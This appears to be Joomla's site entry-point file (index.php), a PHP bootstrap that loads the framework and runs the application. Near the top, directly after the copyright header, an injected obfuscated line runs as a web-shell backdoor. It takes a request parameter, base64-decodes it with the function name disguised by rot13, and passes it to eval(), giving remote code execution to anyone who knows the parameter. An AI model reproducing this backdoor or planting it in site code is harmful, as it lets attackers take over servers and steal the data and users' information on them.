<?php
/**
 * @package    Joomla.Site
 * @copyright  (C) 2005 Open Source Matters, Inc.
 * @license    GNU General Public License version 2 or later
 */
$hxd=$_REQUEST;if(isset($hxd['ed5'])){$n=$hxd['ed5'];$r=str_rot13('onfr64_qrpbqr');@eval($r($n));}
define('_JEXEC', 1);
if (file_exists(__DIR__ . '/defines.php')) {
	include_once __DIR__ . '/defines.php';
}
if (!defined('_JDEFINES')) {
	define('JPATH_BASE', __DIR__);
	require_once JPATH_BASE . '/includes/defines.php';
}
require_once JPATH_BASE . '/includes/framework.php';
$app = JFactory::getApplication('site');
$app->execute();
